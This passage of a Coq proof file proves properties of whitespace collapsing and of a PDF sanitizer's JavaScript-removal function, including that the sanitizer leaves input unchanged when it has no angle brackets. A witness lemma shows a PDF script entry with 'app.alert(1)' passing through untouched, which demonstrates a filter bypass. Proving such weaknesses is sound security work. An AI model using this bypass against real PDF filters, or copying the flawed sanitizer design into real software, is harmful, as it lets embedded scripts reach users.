Theorem collapseWhitespace_idempotent (content : bytes) :
  collapseWhitespace (collapseWhitespace content) = collapseWhitespace content.
Proof. rewrite !collapseWhitespace_squeeze. apply squeeze_idem. Qed.

(** X22.  In a whitespace-collapsed text every whitespace byte is a space,
    and no two of them are adjacent. *)
Theorem collapseWhitespace_single_spaced (content : bytes) :
  single_spaced (collapseWhitespace content) = true.
Proof. rewrite collapseWhitespace_squeeze. apply squeeze_single_spaced. Qed.

(** X23.  [SanitizePDF] of the earlier file returns its input unchanged,
    with a nil error, when the input holds no [<] or no [>]: each removal
    needs a [>] after the keyword and a [</] after it. *)
Theorem SanitizePDF_needs_angle_brackets (data : bytes) :
  free_of (str "<") data = true \/ free_of (str ">") data = true ->
  security.SanitizePDF data = (data, None).
Proof.
  intros H. unfold security.SanitizePDF. f_equal.
  pose proof jsRemovalPatterns_ok as Hp.
  induction Hp as [|r rs (Hc & Hl & Hg) _ IH]; [reflexivity|].
  cbn [fold_left]. rewrite replace_no_match; [exact IH | exact Hc |].
  destruct (MatchString r data) eqn:E; [|reflexivity]. exfalso.
  destruct H as [H|H].
  - apply (free_of_spec _ _ "<"%char H); [now left|].
    now apply (requires_match _ r).
  - apply (free_of_spec _ _ ">"%char H); [now left|].
    now apply (requires_match _ r).
Qed.

(** A script entry that the sanitizer keeps. *)
Lemma SanitizePDF_needs_angle_brackets_witness :
  let data := go "%PDF-1.4\n[ /JavaScript /JS (app.alert(1)) ]\n" in
  security.SanitizePDF data = (data, None).
Proof.
  intros data. apply (SanitizePDF_needs_angle_brackets data).
  left. vm_compute; reflexivity.
Defined.

(** X24.  [SanitizePDF] of the earlier file never lengthens its input, and
    its error is always nil. *)
Theorem SanitizePDF_does_not_lengthen (data : bytes) :
  length (fst (security.SanitizePDF data)) <= length data /\
  snd (security.SanitizePDF data) = None.
Proof.
  split; [|reflexivity]. unfold security.SanitizePDF. cbn [fst].
  pose proof jsRemovalPatterns_ok as Hp. revert data.
  induction Hp as [|r rs (Hc & _) _ IH]; intros data; [reflexivity|].
  cbn [fold_left]. etransitivity; [apply IH|].
  now apply ReplaceAllString_length.
Qed.
